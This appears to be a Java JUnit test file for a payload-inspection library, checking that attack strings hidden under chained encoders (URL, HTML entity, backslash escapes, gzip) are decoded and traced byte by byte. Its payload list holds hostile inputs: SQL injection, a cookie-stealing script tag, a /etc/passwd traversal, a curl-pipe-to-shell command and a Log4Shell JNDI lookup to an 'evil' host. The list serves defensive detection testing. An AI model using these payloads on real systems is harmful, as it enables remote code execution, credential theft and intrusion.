package io.github.crosslevel.mls.inspection.view;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Test;

/** Whatever encoders hide a payload, it is one of the views, and each of its bytes is traced to what stands for it. */
class HiddenPayloadTest {
    private static final long SEED = Long.getLong("mls.seed", 20_261_123L);
    private static final int RUNS = Integer.getInteger("mls.views", 6_000) / 4;
    private static final List<String> PAYLOADS = List.of(
            "' or 1=1 or 'a'='a",
            "<script>alert(document.cookie)</script>",
            "../../../etc/passwd",
            "$(curl http://10.0.0.1/x|sh)",
            "union select password from users",
            "绝密:客户资料😀",
            "${jndi:ldap://evil/a}",
            "50% & \\");

    @Test
    void isFoundUnderAnyChainOfEncodersOrRefusedForTheirNumber() {
        Random random = new Random(SEED);
        ViewReader patient = ViewReader.standard()
                .with(ViewLimits.standard().with(Limit.DEPTH, 20).with(Limit.LEAF_VIEWS, 5_000));
        int refused = 0;
        for (int run = 0; run < RUNS; run++) {
            String payload = PAYLOADS.get(random.nextInt(PAYLOADS.size()));
            String written = payload;
            List<Encoders> chain = Encoders.some(random, 3);
            for (Encoders encoder : chain) {
                written = encoder.encode(written, random);
            }
            String what = "seed " + SEED + " run " + run + " " + chain + " " + written;
            Views views = Views.ofValue(written);
            if (!views.outcome().isComplete()) {
                assertThat(Shown.rule(views.outcome())).as(what).isIn("limit.depth", "limit.leaf-views");
                assertThat(chain).as(what).hasSizeGreaterThan(1);
                refused++;
                views = Views.ofValue(patient, written);
            }
            assertThat(views.outcome().isComplete()).as(what).isTrue();
            assertThat(views.all()).as(what).anyMatch(view -> view.text().equals(payload));
        }
        assertThat(refused).isLessThan(RUNS / 10);
    }

    @Test
    void isFoundInRunningTextAmongAllOtherEncodings() {
        Random random = new Random(SEED);
        String noise = "see%20also &quot;x&quot; or \\n \\27 and \uff1a，　（中文） cXVpdGUgaGFybWxlc3M= /* a */ 100% ";
        for (int run = 0; run < RUNS / 4; run++) {
            String payload = PAYLOADS.get(random.nextInt(PAYLOADS.size() - 1));
            String written = payload;
            List<Encoders> chain = Encoders.some(random, 2);
            if (chain.size() > 1 && chain.contains(Encoders.OVERLONG)) {
                continue; // three decodings, where all orders of two are tried
            }
            for (Encoders encoder : chain) {
                written = encoder.encode(written, random);
            }
            String text = noise.repeat(random.nextInt(3)) + written + " " + noise.repeat(random.nextInt(3));
            Views views = Views.of(Shown.utf8(text), Representation.of("text/plain"));
            String what = "seed " + SEED + " run " + run + " " + chain + " " + text;
            assertThat(Shown.rule(views.outcome())).as(what).isEqualTo("complete");
            assertThat(views.all()).as(what).anyMatch(view -> view.text().contains(payload));
        }
    }

    @Test
    void isFoundWhereverItStandsInABody() {
        Random random = new Random(SEED);
        for (int run = 0; run < RUNS / 10; run++) {
            String payload = PAYLOADS.get(random.nextInt(PAYLOADS.size()));
            String written = Encoders.some(random, 1).get(0).encode(payload, random);
            String form = "a=b&c=" + URLEncoder.encode(written, StandardCharsets.UTF_8);
            String json =
                    "[0,{\"k\":\"" + Encoders.BACKSLASH_U.encode(written.replace("\"", "\\u0022"), random) + "\"}]";
            String xml = "<a><b c=\""
                    + Encoders.ENTITY
                            .encode(written, new Random(0))
                            .replace("<", "&lt;")
                            .replace("\"", "&quot;") + "\"/></a>";
            String csv = "x,\"" + written.replace("\"", "\"\"") + "\"\r\n";
            String what = "seed " + SEED + " run " + run + " " + written;
            contains(what, payload, form, Representation.of(Representation.FORM));
            contains(what, payload, json, Representation.of("application/json"));
            contains(what, payload, xml, Representation.of("text/xml"));
            contains(what, payload, csv, Representation.of("text/csv"));
        }
    }

    private static void contains(String what, String payload, String body, Representation representation) {
        Views plain = Views.of(Shown.utf8(body), representation);
        assertThat(plain.all())
                .as(what + " in " + body)
                .anyMatch(view -> view.text().equals(payload));
        Views gzipped = Views.of(Shown.gzip(Shown.utf8(body)), representation.coded("gzip"));
        assertThat(gzipped.all().stream().map(View::text).toList())
                .as(what)
                .isEqualTo(plain.all().stream().map(View::text).toList());
    }

    @Test
    void everyByteIsTracedToTheEscapeThatStandsForIt() {
        Random random = new Random(SEED);
        for (int run = 0; run < RUNS; run++) {
            int kind = random.nextInt(4);
            StringBuilder written = new StringBuilder();
            List<Integer> starts = new ArrayList<>();
            StringBuilder expected = new StringBuilder();
            for (int i = random.nextInt(30); i >= 0; i--) {
                char c = random.nextInt(2) == 0 ? (char) ('!' + random.nextInt(5)) : (char) ('G' + random.nextInt(10));
                expected.append(c);
                starts.add(written.length());
                boolean escaped = c < 'A';
                written.append(escaped ? escape(kind, c) : c);
            }
            starts.add(written.length());
            View decoded = Views.ofValue(written.toString()).all().stream()
                    .filter(view -> view.text().equals(expected.toString()))
                    .findFirst()
                    .orElseThrow(() -> new AssertionError("seed " + SEED + " " + written));
            if (decoded.path().parent().isEmpty()) {
                continue;
            }
            for (int i = 0; i < starts.size(); i++) {
                List<ViewPosition> trace = decoded.trace(i);
                assertThat(trace.get(trace.size() - 1).offset())
                        .as("seed %d run %d byte %d of %s", SEED, run, i, written)
                        .isEqualTo((long) starts.get(i));
            }
        }
    }

    private static String escape(int kind, char c) {
        return switch (kind) {
            case 0 -> "%" + Integer.toHexString(c);
            case 1 -> "&#" + (int) c + ";";
            case 2 -> "\\x" + Integer.toHexString(c);
            default -> "\\u00" + Integer.toHexString(c);
        };
    }
}
